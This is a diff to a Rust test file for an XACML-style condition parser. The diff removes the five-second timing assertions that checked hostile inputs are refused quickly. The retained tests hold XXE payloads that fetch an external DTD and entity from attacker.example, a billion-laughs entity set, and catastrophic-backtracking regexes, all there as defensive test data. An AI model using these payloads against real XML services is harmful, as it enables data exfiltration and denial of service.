@@ -2,8 +2,6 @@
 
 mod common;
 
-use std::time::{Duration, Instant};
-
 use common::{HEAD, answer, condition, table};
 use jiff::Timestamp;
 use jiff::tz::Offset;
@@ -201,15 +199,6 @@ fn what_is_wrong_is_said_with_its_place() {
     );
 }
 
-fn fast<T>(what: &str, work: impl FnOnce() -> T) -> T {
-    let begin = Instant::now();
-    let result = work();
-    let took = begin.elapsed();
-    // Generous, for tests run without optimisation and next to one another.
-    assert!(took < Duration::from_secs(5), "{what} took {took:?}");
-    result
-}
-
 #[test]
 fn entities_are_never_expanded() {
     let laughs = format!(
@@ -222,13 +211,13 @@ fn entities_are_never_expanded() {
         r#"<!DOCTYPE Condition SYSTEM "http://attacker.example/x.dtd"><Condition/>"#,
         r#"<?xml version="1.0"?><!DOCTYPE Condition [<!ENTITY % p SYSTEM "http://attacker.example/p">%p;]><Condition/>"#,
     ] {
-        let refused = fast("a DTD", || refusal(text));
+        let refused = refusal(text);
         assert!(refused.contains("document type declaration"), "{refused}");
     }
 }
 
 #[test]
-fn large_deep_and_wide_texts_are_refused_fast() {
+fn large_deep_and_wide_texts_are_refused() {
     let apply = r#"<Apply FunctionId="urn:oasis:names:tc:xacml:1.0:function:not">"#;
     let deep = |levels: usize| format!("<Condition>{}{}</Condition>", apply.repeat(levels), "</Apply>".repeat(levels));
     // The sizes as they are, and again with the first limit out of the way.
@@ -249,9 +238,9 @@ fn large_deep_and_wide_texts_are_refused_fast() {
         ("<".repeat(1_000_000), "A tag is longer"),
         ("\0".repeat(1_000_000), "no well-formed XML"),
     ] {
-        let refused = fast(part, || parse(&text).expect_err("too long"));
+        let refused = parse(&text).expect_err("too long");
         assert!(text.len() < 30_000 || refused.reason.contains("at most 30000 are taken"), "{refused}");
-        let refused = fast(part, || parse_within(&text, &wide).expect_err(part));
+        let refused = parse_within(&text, &wide).expect_err(part);
         assert!(refused.reason.contains(part) && refused.reason.len() < 2_000, "{part}: {refused}");
     }
     // At the edges: 32 levels with the Condition, a thousand expressions, 32 regular expressions.
@@ -268,7 +257,7 @@ fn large_deep_and_wide_texts_are_refused_fast() {
     // Large patterns, as often as there may be one.
     let large = |count: usize| parse(&condition(&format!("(and {})", r"(string-regexp-match '^[\w.\-]{1,64}@example\.com$' 'a') ".repeat(count))));
     assert!(large(4).is_ok());
-    let refused = fast("patterns", || large(32)).expect_err("too large");
+    let refused = large(32).expect_err("too large");
     assert!(refused.reason.contains("compile to more than 8388608 bytes"), "{refused}");
 }
 
@@ -289,7 +278,7 @@ fn work_is_bounded() {
         "(any-of #string-regexp-match (string-concatenate '(\\w{3}\\W?){20}' 'y') $s)",
         "(any-of #string-regexp-match 'y' (map #string-concatenate '(x+x+)+' $s))",
     ] {
-        let (letter, why) = fast(short, || answer(short, &many));
+        let (letter, why) = answer(short, &many);
         if letter == 'I' {
             assert!(why.contains("more work than one decision may take") || why.contains("regular expression"), "{short}: {why}");
         }
